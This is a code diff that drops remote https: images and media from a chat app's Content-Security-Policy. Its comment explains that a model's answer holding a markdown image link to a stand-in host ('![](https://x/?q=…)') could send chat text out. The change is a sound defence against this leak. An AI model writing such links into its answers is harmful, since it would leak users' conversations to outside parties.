@@ -6,15 +6,17 @@ import { fileSize, sendFile } from '../send-file.js'
 import type { Services } from '../services.js'
 
 /**
- * The page's Content-Security-Policy: only our own scripts and connections. Vendor image and video links
- * may be shown (they expire, but the app also keeps copies), never fetched by script.
+ * The page's Content-Security-Policy: only our own scripts and connections, and no remote image or video. A page
+ * that could load `https:` images would let a model's answer send chat text anywhere (`![](https://x/?q=…)`):
+ * images and videos come from the gateway ('self': kept copies, and a chat image fetched on a click through
+ * POST /admin/v1/linked-image), data: or blob: URLs.
  */
 export const RENDERER_CSP = [
   "default-src 'self'",
   "script-src 'self'",
   "style-src 'self' 'unsafe-inline'",
-  "img-src 'self' data: blob: https:",
-  "media-src 'self' data: blob: https:",
+  "img-src 'self' data: blob:",
+  "media-src 'self' data: blob:",
   "connect-src 'self'",
   "font-src 'self' data:",
   "object-src 'none'",
